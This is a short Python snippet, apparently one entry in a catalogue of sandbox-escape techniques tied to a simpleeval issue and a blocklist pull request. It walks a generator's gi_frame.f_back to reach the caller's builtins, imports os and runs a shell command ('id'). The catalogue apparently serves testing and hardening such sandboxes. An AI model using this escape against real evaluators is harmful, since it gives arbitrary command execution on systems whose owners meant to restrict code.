# Source: https://github.com/saint2706/Coding-For-MBA/pull/609 (f_back in frame-walk blocklist); https://github.com/danthedeckie/simpleeval/issues/138
# Family: frame
# What: running generator's gi_frame.f_back walks to the caller frame and its builtins
def walker():
    fr = gen.gi_frame.f_back
    yield fr.f_builtins["__import__"]("os")

gen = walker()
osmod = next(gen)
osmod.system("id")
